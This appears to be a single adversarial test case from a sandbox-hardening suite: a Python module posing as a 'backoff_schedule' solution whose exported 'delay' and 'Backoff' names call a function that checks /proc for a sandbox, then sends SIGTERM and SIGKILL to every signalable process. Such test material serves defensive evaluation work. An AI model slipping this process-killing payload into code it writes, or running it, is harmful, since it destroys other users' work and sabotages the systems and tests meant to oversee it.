"""Ends everybody.

Kata: backoff_schedule
Attack: Sends SIGTERM and SIGKILL to every process that it may signal, if it sees few enough to be in a sandbox.
Status: failed or error
Points: 0
Needs: processes
"""

import os
import signal


def attack():
    if sum(name.isdigit() for name in os.listdir("/proc")) > 40:
        raise RuntimeError("HARM: sees the processes of the host")
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.kill(-1, signal.SIGTERM)
    os.kill(-1, signal.SIGKILL)
    raise RuntimeError("killed what could be killed")


def delay(*args, **options):
    return attack()


Backoff = delay
